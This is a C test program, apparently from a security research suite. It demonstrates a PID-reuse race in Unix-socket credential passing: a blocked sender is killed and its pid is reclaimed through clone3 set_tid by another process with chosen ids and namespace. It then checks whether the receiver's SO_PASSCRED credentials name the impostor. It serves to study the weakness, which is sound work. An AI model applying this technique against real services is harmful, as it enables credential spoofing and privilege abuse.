/* SPDX-License-Identifier: LGPL-2.1-or-later */

/*
 * A message whose sender is killed while it waits for room, and whose pid belongs to another
 * process, outside the session, when there is room: whose name does it bear? The receiver asks for
 * it with SO_PASSCRED.
 *
 *	heir alive FIFO TRIES		the sender lives on: for comparison
 *	heir killed FIFO TRIES		its pid is told to the FIFO; it dies when FIFO.known answers
 *	heir outside FIFO UID GID	for root: takes each pid that it reads, with these ids
 *	heir inside FIFO UID GID	the same with the mark of the session, where there is one
 *
 * What luck does for an attacker clone3(2) does here: a given pid, as soon as it is free.
 */

#include <fcntl.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

#define BLOCKED_MS 20 /* for the sender to wait in its call */
#define TAKEN_MS   2000
#define ARRIVE_MS  300
#define READY_US   200 /* for the heir to have its ids */

static int pair[2];

/* Where pids are told, and that they are known. */
static int fifo, known;

static void sleep_us(long us)
{
	const struct timespec time = {us / 1000000, us % 1000000 * 1000};

	nanosleep(&time, NULL);
}

static double now_ms(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return (double)now.tv_sec * 1e3 + (double)now.tv_nsec / 1e6;
}

static int say(char letter, int flags)
{
	struct iovec iov = {&letter, 1};
	const struct msghdr message = {.msg_iov = &iov, .msg_iovlen = 1};

	return (int)sendmsg(pair[0], &message, flags);
}

static void make_pair(void)
{
	const struct timeval patience = {.tv_usec = ARRIVE_MS * 1000};
	const int on = 1, little = 1;

	need(socketpair(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0, pair) == 0, "socketpair");
	need(setsockopt(pair[0], SOL_SOCKET, SO_SNDBUF, &little, sizeof(little)) == 0, "SNDBUF");
	need(setsockopt(pair[1], SOL_SOCKET, SO_PASSCRED, &on, sizeof(on)) == 0, "PASSCRED");
	need(setsockopt(pair[1], SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience)) == 0,
		"RCVTIMEO");
}

/* A process that waits in sendmsg(2) for room: all before its "L" is filling. */
static pid_t start_sender(void)
{
	int ready[2];
	char byte;
	pid_t sender;

	need(pipe2(ready, O_CLOEXEC) == 0, "pipe");
	sender = fork();
	need(sender >= 0, "fork");
	if (sender == 0) {
		while (say('f', MSG_DONTWAIT) == 1)
			;
		if (write(ready[1], "r", 1) != 1)
			_exit(1);
		_exit(say('L', 0) == 1 ? 0 : 1);
	}
	close(ready[1]);
	need(read(ready[0], &byte, 1) == 1, "a sender");
	close(ready[0]);
	sleep_us(BLOCKED_MS * 1000);
	return sender;
}

/* The pid that came with "L", 0 when it did not come. */
static pid_t receive_last(void)
{
	for (;;) {
		struct ucred said;
		char letter, control[CMSG_SPACE(sizeof(said))];
		struct iovec iov = {&letter, 1};
		struct msghdr message = {.msg_iov = &iov,
			.msg_iovlen = 1,
			.msg_control = control,
			.msg_controllen = sizeof(control)};

		if (recvmsg(pair[1], &message, 0) < 0)
			return 0;
		if (letter != 'L')
			continue;
		need(CMSG_FIRSTHDR(&message) != NULL, "credentials");
		memcpy(&said, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof(said));
		return said.pid;
	}
}

static bool is_free(pid_t pid)
{
	return kill(pid, 0) < 0 && errno == ESRCH;
}

/* Until somebody else has its pid. */
static void bequeath(pid_t sender)
{
	double end = now_ms() + TAKEN_MS;
	int status = 0;
	char byte;

	need(write(fifo, &sender, sizeof(sender)) == sizeof(sender), "tell the pid");
	need(read(known, &byte, 1) == 1, "somebody who knows it");
	need(kill(sender, SIGKILL) == 0 && waitpid(sender, &status, 0) == sender, "kill it");
	need(WIFSIGNALED(status), "a sender that waits");
	while (is_free(sender) && now_ms() < end)
		;
	need(!is_free(sender), "somebody who takes the pid");
	sleep_us(READY_US);
}

static void open_fifos(const char *path, int fifo_mode, int known_mode)
{
	char name[256];

	snprintf(name, sizeof(name), "%s.known", path);
	fifo = open(path, fifo_mode | O_CLOEXEC);
	known = open(name, known_mode | O_CLOEXEC);
	need(fifo >= 0 && known >= 0, "fifos");
}

static int run(char **args, bool killed)
{
	int named = 0, came = 0, tries = atoi(args[1]);

	open_fifos(args[0], O_WRONLY, O_RDONLY);
	for (int i = 0; i < tries; i++) {
		pid_t sender, said;

		make_pair();
		sender = start_sender();
		if (killed)
			bequeath(sender);
		said = receive_last();
		came += said != 0;
		named += said == sender;
		if (!killed)
			need(waitpid(sender, NULL, 0) == sender, "its end");
		close(pair[0]);
		close(pair[1]);
	}
	if (named > 0)
		return succeeded("%d of %d came, %d in that name", came, tries, named);
	return stopped("%d of %d came", came, tries);
}

static int alive(char **args)
{
	return run(args, false);
}

static int killed(char **args)
{
	return run(args, true);
}

/* A process of that pid and the user's ids, which the user may look at. */
static pid_t take_over(pid_t pid, uid_t uid, gid_t gid)
{
	struct clone_args args = {
		.exit_signal = SIGCHLD, .set_tid = (uint64_t)(uintptr_t)&pid, .set_tid_size = 1};
	double end = now_ms() + TAKEN_MS;
	pid_t heir;

	do
		heir = (pid_t)syscall(SYS_clone3, &args, sizeof(args));
	while (heir < 0 && errno == EEXIST && now_ms() < end);
	if (heir != 0)
		return heir;
	if (setresgid(gid, gid, gid) < 0 || setresuid(uid, uid, uid) < 0 ||
		prctl(PR_SET_DUMPABLE, 1, 0, 0, 0) < 0)
		_exit(1);
	for (;;)
		pause();
}

static void bear_its_mark(pid_t pid)
{
	char path[64];
	int mark;

	snprintf(path, sizeof(path), "/proc/%d/ns/uts", (int)pid);
	mark = open(path, O_RDONLY | O_CLOEXEC);
	need(mark >= 0 && setns(mark, CLONE_NEWUTS) == 0, "the mark");
	close(mark);
}

static int take(char **args, bool marked)
{
	uid_t uid = (uid_t)atoi(args[1]);
	gid_t gid = (gid_t)atoi(args[2]);
	int n = 0;
	pid_t pid;

	need(uid > 0 && gid > 0, "UID GID");
	open_fifos(args[0], O_RDONLY, O_WRONLY);
	for (pid_t heir = 0; read(fifo, &pid, sizeof(pid)) == sizeof(pid); n++) {
		if (heir > 0)
			need(kill(heir, SIGKILL) == 0 && waitpid(heir, NULL, 0) == heir, "kill");
		if (marked)
			bear_its_mark(pid);
		need(write(known, "k", 1) == 1, "tell that it is known");
		heir = take_over(pid, uid, gid);
		need(heir == pid, "take over");
	}
	printf("result: took %d\n", n);
	return 0;
}

static int outside(char **args)
{
	return take(args, false);
}

static int inside(char **args)
{
	return take(args, true);
}

static const struct trick tricks[] = {
	{"alive", alive, 2},
	{"killed", killed, 2},
	{"outside", outside, 3},
	{"inside", inside, 3},
};

int main(int argc, char **argv)
{
	return trick_run(tricks, ARRAY_SIZE(tricks), argc, argv);
}
